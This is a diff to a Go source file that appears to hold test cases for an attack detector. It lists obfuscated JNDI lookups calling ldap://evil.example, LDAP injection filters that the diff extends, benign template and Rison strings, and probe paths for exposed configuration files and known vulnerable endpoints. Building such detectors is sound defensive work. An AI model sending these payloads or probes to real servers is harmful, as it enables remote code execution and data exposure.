@@ -15,11 +15,13 @@ func targetAttacks() map[string][]string {
 	for _, d := range []string{"${::-", "${x:-", "${env:NaN:-"} {
 		m["jndi"] = append(m["jndi"], "${j"+d+"n}d"+d+"i}:ldap://evil.example/a}")
 	}
-	m["ldap"] = []string{"*()|&'", "(uid=*)"}
+	m["ldap"] = []string{"*()|&'", "(uid=*)", "x)(|(uid=*", "*)(&(objectClass=*)", "admin)(!(&(1=0", "x))(|(&(cn=*"}
 	return m
 }
 
-var targetBenign = []string{"{% set ns = namespace(found=false) %}", "{{ __('messages.welcome') }}", "{{ price * 2 }}", "row-${i%2} ${#dates.format(d)}", "{{printf \"%s\" .Name}}", "#include <stdio.h>", "(a) & (b) * c", "price ${a} and ${b}"}
+var targetBenign = []string{"{% set ns = namespace(found=false) %}", "{{ __('messages.welcome') }}", "{{ price * 2 }}", "row-${i%2} ${#dates.format(d)}", "{{printf \"%s\" .Name}}", "#include <stdio.h>", "(a) & (b) * c", "price ${a} and ${b}",
+	// Rison, the URL state of Kibana and other apps: "!(" is an array.
+	"(columns:!(message),sort:!(!('@timestamp',desc)))", "(filters:!(),query:(language:kuery,query:'a and not b'))"}
 
 var targetPaths = cross("", []string{"/", "/app/"}, []string{"index.php.1", "config.php.txt", "actuator/beans", "WEB-INF./web.xml", "storage/logs/laravel.log", "example.com.zip", "phpinfo2.php", "wls-wsat/CoordinatorPortType", "vpn/../vpns/cfg/smb.conf"})
 
